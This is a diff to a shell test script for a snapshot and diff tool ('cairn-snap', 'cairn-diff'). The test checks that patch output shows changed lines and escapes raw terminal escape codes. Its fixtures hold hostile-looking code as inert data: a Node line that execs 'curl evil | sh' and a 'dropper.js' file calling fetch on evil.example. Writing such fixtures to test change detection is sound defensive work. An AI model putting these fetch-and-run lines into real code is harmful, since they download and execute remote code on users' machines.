@@ -9,8 +9,9 @@ printf 'line 1\nline 2\nline 3\n' > root/lib/index.js
 printf 'bin\000ary' > root/data.bin
 cairn-snap -q --no-packages root -o s1.cairn --store store.git --store-content 2> /dev/null
 git -C store.git tag known-good
-printf 'line 1\nline 2\nrequire("child_process").exec("curl evil | sh")\nline 3\n' > root/lib/index.js
+printf 'line 1\nline 2\nrequire("child_process").exec("curl evil | sh")\n\tindented\033[2J\nline 3\n' > root/lib/index.js
 printf 'bin\000ar2' > root/data.bin
+printf 'fetch("https://evil.example/x")\n' > root/lib/dropper.js
 cairn-snap -q --no-packages root -o s2.cairn --store store.git --store-content 2> /dev/null
 [ "$(git -C store.git rev-list --all | wc -l)" = 2 ] || fail "two commits"
 
@@ -18,7 +19,10 @@ set +e; cairn-diff --store store.git known-good HEAD --patch > p.out 2> p.err; r
 [ "$rc" = 1 ] || fail "exit $rc: $(cat p.err)"
 grep -q '^  ~ lib/index.js' p.out || fail "modified file"
 grep -q '^+require("child_process").exec("curl evil | sh")' p.out || fail "patch line"
+grep -q "^+$(printf '\t')indented\\\\x1b\\[2J\$" p.out || fail "patch line: tab kept, ESC escaped"
+! grep -q "$(printf '\033')" p.out || fail "raw ESC in the patch"
 grep -q '^Binary file data.bin: size 7 -> 7, sha256 ' p.out || fail "binary line"
+grep -q '^+fetch("https://evil.example/x")' p.out || fail "added file's lines"
 set +e; cairn-diff --store store.git HEAD~1 HEAD --json > s.json; set -e
 jq -e '.mode == "store" and .summary.modified == 2 and (.store.old_commit | length) == 40' \
 	s.json > /dev/null || fail "JSON"
